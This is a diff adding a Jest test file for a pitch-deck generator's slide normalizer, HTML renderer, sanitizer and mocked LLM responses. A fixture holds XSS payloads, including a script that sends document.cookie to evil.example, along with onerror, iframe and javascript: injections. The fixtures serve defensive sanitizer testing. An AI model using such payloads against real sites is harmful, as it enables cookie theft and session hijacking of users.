@@ -0,0 +1,375 @@
+const axios = require('axios');
+const { sanitizeSlideHtml, slideToText, normalizeSlide, renderSlideHtml } = require('../utils/slides');
+const { generatePitch, streamPitch, regenerateSlide, generateSpeakerNotes, generateElevatorVariants } = require('../services/deepseek');
+
+jest.mock('axios');
+
+const SAFE_SLIDE = "<section class='min-h-screen bg-gradient-to-br from-slate-900 via-purple-900 to-slate-900 text-white p-12'><div class='relative z-10 text-center'><div class='text-6xl mb-6'>🔥</div><h1 class='text-7xl md:text-8xl font-black bg-white/20'>THE PROBLEM</h1><p class='text-2xl'>Problem description</p><ul><li>One</li></ul></div></section>";
+
+const MALICIOUS_SLIDE = '<section class="p-12"><h1 onclick="steal()">THE PROBLEM</h1>' +
+  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
+  '<img src="x" onerror="alert(1)">' +
+  '<iframe src="https://evil.example/frame">fallback</iframe>' +
+  '<a href="javascript:alert(1)">click me</a>' +
+  '<p style="background:url(https://evil.example/track.png)" class="text-2xl bg-[url(https://evil.example/bg.png)]">Problem</p>' +
+  '<div onmouseover="alert(1)" data-x="1" id="hijack">Text</div></section>';
+
+const STRUCTURED_SLIDE = {
+  type: 'market',
+  title: 'MARKET',
+  subtitle: 'A growing market with a subscription business model.',
+  bullets: ['Restaurants', 'Urban farms'],
+  icon: '📈',
+  metrics: [{ value: '$4.2B', label: 'Market size' }],
+  theme: 'emerald'
+};
+
+describe('Slides', () => {
+  describe('normalizeSlide', () => {
+    it('should keep a valid slide as is', () => {
+      expect(normalizeSlide(STRUCTURED_SLIDE)).toEqual(STRUCTURED_SLIDE);
+    });
+
+    it('should fill in defaults from the slide type and drop unknown fields', () => {
+      const slide = normalizeSlide({ type: 'cta', title: '  Join us  ', html: '<p>x</p>', onclick: 'x()' });
+
+      expect(slide).toEqual({
+        type: 'cta',
+        title: 'Join us',
+        subtitle: '',
+        bullets: [],
+        icon: '🚀',
+        metrics: [],
+        theme: 'rose'
+      });
+    });
+
+    it('should keep speaker notes with their paragraphs', () => {
+      const slide = normalizeSlide({ ...STRUCTURED_SLIDE, notes: '  Start   with the number.\n\n\n\nThen the story.  ' });
+
+      expect(slide.notes).toBe('Start with the number.\n\nThen the story.');
+      expect(normalizeSlide({ ...STRUCTURED_SLIDE, notes: '   ' })).not.toHaveProperty('notes');
+      expect(normalizeSlide({ html: SAFE_SLIDE, notes: 'Legacy notes' }).notes).toBe('Legacy notes');
+    });
+
+    it('should fall back to a custom slide for unknown types and themes', () => {
+      const slide = normalizeSlide({ type: 'hype', title: 'Wow', theme: 'neon' });
+
+      expect(slide.type).toBe('custom');
+      expect(slide.theme).toBe('slate');
+    });
+
+    it('should drop incomplete metrics and clip long bullet lists', () => {
+      const slide = normalizeSlide({
+        title: 'Traction',
+        bullets: ['1', '2', '3', '4', '5', '6', '7', ''],
+        metrics: [{ value: '10k' }, { value: '10k', label: 'Users' }]
+      });
+
+      expect(slide.bullets).toEqual(['1', '2', '3', '4', '5', '6']);
+      expect(slide.metrics).toEqual([{ value: '10k', label: 'Users' }]);
+    });
+
+    it('should convert legacy HTML strings into sanitized custom slides', () => {
+      expect(normalizeSlide('<section onclick="x()">Old</section>')).toEqual({ type: 'custom', html: '<section>Old</section>' });
+    });
+  });
+
+  describe('renderSlideHtml', () => {
+    it('should render the theme, title, bullets and metrics', () => {
+      const html = renderSlideHtml(STRUCTURED_SLIDE);
+
+      expect(html).toContain('bg-gradient-to-br from-emerald-900 via-teal-900 to-cyan-900');
+      expect(html).toContain('>MARKET</h1>');
+      expect(html).toContain('<span>Urban farms</span>');
+      expect(html).toContain('$4.2B');
+      expect(html).toContain('Market size');
+    });
+
+    it('should escape text so slide fields cannot inject markup', () => {
+      const html = renderSlideHtml({ title: '<img src=x onerror=alert(1)>', subtitle: '"quoted" & <b>bold</b>' });
+
+      expect(html).not.toContain('<img');
+      expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
+      expect(html).toContain('&quot;quoted&quot; &amp; &lt;b&gt;bold&lt;/b&gt;');
+    });
+
+    it('should produce markup that survives the sanitizer unchanged', () => {
+      const html = renderSlideHtml(STRUCTURED_SLIDE);
+
+      expect(sanitizeSlideHtml(html)).toBe(html);
+    });
+
+    it('should render legacy slides from their sanitized HTML', () => {
+      expect(renderSlideHtml({ type: 'custom', html: '<section><script>x</script>Old</section>' })).toBe('<section>Old</section>');
+    });
+
+    it('should apply one deck theme to every slide regardless of its palette', () => {
+      const market = renderSlideHtml(STRUCTURED_SLIDE, { theme: 'light-corporate' });
+      const problem = renderSlideHtml({ type: 'problem', title: 'PROBLEM', theme: 'purple' }, { theme: 'light-corporate' });
+
+      [market, problem].forEach(html => {
+        expect(html).toContain('bg-gradient-to-br from-white to-slate-100 text-slate-900');
+        expect(html).not.toContain('bg-black/20');
+        expect(html).not.toContain('purple');
+      });
+      expect(sanitizeSlideHtml(market)).toBe(market);
+    });
+
+    it('should fall back to the dark gradient theme for unknown theme names', () => {
+      expect(renderSlideHtml(STRUCTURED_SLIDE, { theme: 'neon' })).toBe(renderSlideHtml(STRUCTURED_SLIDE));
+    });
+
+    it('should paint the brand theme with the brand colors', () => {
+      const html = renderSlideHtml(STRUCTURED_SLIDE, { theme: 'brand', brand: { primaryColor: '#0f766e', secondaryColor: 'nope' } });
+
+      expect(html).toContain('style="background: linear-gradient(135deg, #0f766e, #7c3aed)"');
+      expect(html).toContain('text-white');
+    });
+
+    it('should add the brand logo and fonts to every theme', () => {
+      const logo = 'data:image/png;base64,iVBORw0KGgo=';
+      const html = renderSlideHtml(STRUCTURED_SLIDE, { theme: 'minimal-mono', brand: { logo, fontPairing: 'classic' } });
+
+      expect(html).toContain(`<img src="${logo}" alt=""`);
+      expect(html).toContain('style="font-family: &#39;Source Sans 3&#39;, sans-serif"');
+      expect(html).toContain('style="font-family: &#39;Playfair Display&#39;, serif"');
+    });
+
+    it('should not embed logos that are not image data URLs', () => {
+      const html = renderSlideHtml(STRUCTURED_SLIDE, { brand: { logo: 'javascript:alert(1)' } });
+
+      expect(html).not.toContain('<img');
+    });
+
+    it('should switch to dark text on light brand colors', () => {
+      const html = renderSlideHtml(STRUCTURED_SLIDE, { theme: 'brand', brand: { primaryColor: '#fef3c7', secondaryColor: '#e0f2fe' } });
+
+      expect(html).toContain('min-h-screen text-slate-900');
+    });
+  });
+
+  describe('slideToText', () => {
+    it('should read the text of structured slides', () => {
+      expect(slideToText(STRUCTURED_SLIDE)).toBe('MARKET A growing market with a subscription business model. Restaurants Urban farms $4.2B Market size');
+    });
+
+    it('should strip tags from legacy slides', () => {
+      expect(slideToText({ type: 'custom', html: '<h1>Old</h1><p>deck</p>' })).toBe('Old deck');
+    });
+  });
+});
+
+describe('Slide sanitization', () => {
+  describe('sanitizeSlideHtml', () => {
+    it('should keep allowlisted layout tags and Tailwind classes intact', () => {
+      const clean = sanitizeSlideHtml(SAFE_SLIDE);
+
+      expect(clean).toContain('<section class="min-h-screen bg-gradient-to-br from-slate-900 via-purple-900 to-slate-900 text-white p-12">');
+      expect(clean).toContain('<h1 class="text-7xl md:text-8xl font-black bg-white/20">THE PROBLEM</h1>');
+      expect(clean).toContain('<ul><li>One</li></ul>');
+      expect(clean).toContain('🔥');
+    });
+
+    it('should remove scripts together with their content', () => {
+      const clean = sanitizeSlideHtml(MALICIOUS_SLIDE);
+
+      expect(clean).not.toMatch(/<script/i);
+      expect(clean).not.toContain('document.cookie');
+    });
+
+    it('should remove event handlers, inline styles and unknown attributes', () => {
+      const clean = sanitizeSlideHtml(MALICIOUS_SLIDE);
+
+      expect(clean).not.toMatch(/\son\w+=/i);
+      expect(clean).not.toContain('style=');
+      expect(clean).not.toContain('data-x');
+      expect(clean).not.toContain('id=');
+      expect(clean).toContain('<div>Text</div>');
+    });
+
+    it('should remove iframes, images and links', () => {
+      const clean = sanitizeSlideHtml(MALICIOUS_SLIDE);
+
+      expect(clean).not.toMatch(/<(iframe|img|a)\b/i);
+      expect(clean).not.toContain('fallback');
+      expect(clean).not.toContain('javascript:');
+      expect(clean).toContain('click me');
+    });
+
+    it('should drop class tokens that could load an external URL', () => {
+      const clean = sanitizeSlideHtml(MALICIOUS_SLIDE);
+
+      expect(clean).not.toContain('evil.example');
+      expect(clean).toContain('<p class="text-2xl">Problem</p>');
+    });
+
+    it('should return an empty string for non-string input', () => {
+      expect(sanitizeSlideHtml(null)).toBe('');
+      expect(sanitizeSlideHtml({ html: '<p>x</p>' })).toBe('');
+    });
+
+    it('should keep the readable text of the slide', () => {
+      expect(slideToText(sanitizeSlideHtml(SAFE_SLIDE))).toBe(slideToText(SAFE_SLIDE));
+    });
+  });
+
+  // Models that ignore the structured format and answer with HTML strings
+
+  describe('model output', () => {
+    const originalEnv = { ...process.env };
+    const idea = 'A marketplace connecting urban gardeners with local restaurants';
+    const maliciousPitch = JSON.stringify({
+      name: 'Green Link',
+      elevator: 'Fresh produce from the block next door.',
+      slides: [MALICIOUS_SLIDE, SAFE_SLIDE, SAFE_SLIDE, SAFE_SLIDE]
+    });
+
+    beforeEach(() => {
+      jest.clearAllMocks();
+      process.env = { ...originalEnv, OPENAI_API_KEY: 'sk-real-key' };
+    });
+
+    afterAll(() => {
+      process.env = originalEnv;
+    });
+
+    it('should reject a deck of HTML slides that cannot match the slide plan', async () => {
+      axios.post.mockResolvedValueOnce({ data: { choices: [{ message: { content: maliciousPitch } }] } });
+
+      await expect(generatePitch(idea, { provider: 'openai' }))
+        .rejects.toThrow('Slide 1 should be "problem" but is "custom"');
+    });
+
+    it('should normalize structured slides returned by generatePitch', async () => {
+      const content = JSON.stringify({
+        name: 'Green Link',
+        elevator: 'Fresh produce from the block next door.',
+        slides: [STRUCTURED_SLIDE, { ...STRUCTURED_SLIDE, type: 'cta', theme: undefined, extra: '<script>' }, STRUCTURED_SLIDE]
+      });
+      axios.post.mockResolvedValueOnce({ data: { choices: [{ message: { content } }] } });
+
+      const pitch = await generatePitch(idea, { provider: 'openai', slidePlan: ['market', 'cta', 'market'] });
+
+      expect(pitch.slides[0]).toEqual(STRUCTURED_SLIDE);
+      expect(pitch.slides[1].theme).toBe('rose');
+      expect(pitch.slides[1].extra).toBeUndefined();
+    });
+
+    it('should reject structured slides without a title', async () => {
+      const content = JSON.stringify({
+        name: 'Green Link',
+        elevator: 'Fresh produce from the block next door.',
+        slides: [STRUCTURED_SLIDE, { type: 'cta' }, STRUCTURED_SLIDE]
+      });
+      axios.post.mockResolvedValueOnce({ data: { choices: [{ message: { content } }] } });
+
+      await expect(generatePitch(idea, { provider: 'openai', slidePlan: ['market', 'cta', 'market'] }))
+        .rejects.toThrow('Slide 2 is missing a title');
+    });
+
+    it('should sanitize slides as they are streamed', async () => {
+      const chunks = maliciousPitch.match(/[\s\S]{1,40}/g).map(token => Buffer.from(
+        `data: ${JSON.stringify({ choices: [{ delta: { content: token } }] })}\n\n`
+      ));
+      axios.post.mockResolvedValueOnce({ data: chunks });
+      const streamed = [];
+
+      await expect(streamPitch(idea, {
+        provider: 'openai',
+        onEvent: (event, data) => {
+          if (event === 'slide') {
+            streamed.push(data.slide);
+          }
+        }
+      })).rejects.toThrow('does not match the requested slide plan');
+
+      // HTML slides already sent to the browser before the deck was rejected are sanitized
+      expect(streamed).toHaveLength(4);
+      streamed.forEach(slide => {
+        expect(slide.html).not.toMatch(/<script|onclick|onerror|<iframe|evil\.example/i);
+      });
+    });
+
+    it('should normalize a regenerated slide', async () => {
+      const content = JSON.stringify({ slide: { ...STRUCTURED_SLIDE, title: 'THE PROBLEM', onclick: 'steal()' } });
+      axios.post.mockResolvedValueOnce({ data: { choices: [{ message: { content } }] } });
+
+      const slide = await regenerateSlide({
+        idea,
+        pitch: { name: 'Green Link', elevator: 'Fresh.', slides: [SAFE_SLIDE, STRUCTURED_SLIDE, STRUCTURED_SLIDE] },
+        index: 0,
+        provider: 'openai'
+      });
+
+      expect(slide.title).toBe('THE PROBLEM');
+      expect(slide.onclick).toBeUndefined();
+    });
+
+    it('should return one set of speaker notes per slide', async () => {
+      const content = JSON.stringify({ notes: [' Open strong. ', 'Close with the ask.'] });
+      axios.post.mockResolvedValueOnce({ data: { choices: [{ message: { content } }] } });
+
+      const notes = await generateSpeakerNotes({
+        idea,
+        pitch: { name: 'Green Link', elevator: 'Fresh.', slides: [STRUCTURED_SLIDE, SAFE_SLIDE] },
+        provider: 'openai'
+      });
+
+      expect(notes).toEqual(['Open strong.', 'Close with the ask.']);
+    });
+
+    it('should reject speaker notes that do not match the slide count', async () => {
+      axios.post.mockResolvedValueOnce({ data: { choices: [{ message: { content: JSON.stringify({ notes: ['Only one'] }) } }] } });
+
+      await expect(generateSpeakerNotes({
+        idea,
+        pitch: { name: 'Green Link', elevator: 'Fresh.', slides: [STRUCTURED_SLIDE, STRUCTURED_SLIDE] },
+        provider: 'openai'
+      })).rejects.toThrow('Invalid response structure');
+    });
+
+    it('should clip an elevator pitch tweet to 280 characters', async () => {
+      const content = JSON.stringify({
+        investor: 'Raising $1.5M.',
+        customer: 'Fresh produce, next door.',
+        recruiter: 'Build the local food network.',
+        tweet: 'Fresh produce from the block next door '.repeat(10),
+        spoken: ' Hi,   we are Green Link. '
+      });
+      axios.post.mockResolvedValueOnce({ data: { choices: [{ message: { content } }] } });
+
+      const variants = await generateElevatorVariants({
+        idea,
+        pitch: { name: 'Green Link', elevator: 'Fresh.', slides: [STRUCTURED_SLIDE] },
+        provider: 'openai'
+      });
+
+      expect(variants.tweet.length).toBeLessThanOrEqual(280);
+      expect(variants.tweet).toMatch(/ Fresh…$/);
+      expect(variants.spoken).toBe('Hi, we are Green Link.');
+    });
+
+    it('should reject elevator pitch variants with a missing audience', async () => {
+      const content = JSON.stringify({ investor: 'Raising $1.5M.', customer: 'Fresh produce.', tweet: 'Fresh.', spoken: 'Hi.' });
+      axios.post.mockResolvedValueOnce({ data: { choices: [{ message: { content } }] } });
+
+      await expect(generateElevatorVariants({
+        idea,
+        pitch: { name: 'Green Link', elevator: 'Fresh.', slides: [STRUCTURED_SLIDE] },
+        provider: 'openai'
+      })).rejects.toThrow('Invalid response structure');
+    });
+
+    it('should reject a regenerated slide in the legacy HTML format', async () => {
+      axios.post.mockResolvedValueOnce({ data: { choices: [{ message: { content: JSON.stringify({ slide: MALICIOUS_SLIDE }) } }] } });
+
+      await expect(regenerateSlide({
+        idea,
+        pitch: { name: 'Green Link', elevator: 'Fresh.', slides: [STRUCTURED_SLIDE, STRUCTURED_SLIDE, STRUCTURED_SLIDE] },
+        index: 0,
+        provider: 'openai'
+      })).rejects.toThrow('Invalid response structure');
+    });
+  });
+});